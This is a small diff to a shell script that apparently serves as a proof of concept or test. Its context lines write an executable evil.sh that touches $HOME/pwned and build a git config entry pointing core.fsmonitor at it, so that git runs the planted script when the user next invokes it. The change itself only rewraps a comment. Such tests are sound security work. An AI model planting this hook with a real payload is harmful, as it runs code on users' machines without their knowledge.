@@ -1,4 +1,5 @@
-# Makes git on the host run something of ours the next time the user calls it. $1 says through which door.
+# Makes git on the host run something of ours the next time the user calls it. $1 says through which
+# door.
 planted() { printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >"$1" && chmod 755 "$1"; }
 monitor() { printf '[core]\n\tfsmonitor = %s/evil.sh\n' "$PWD"; }
 planted evil.sh
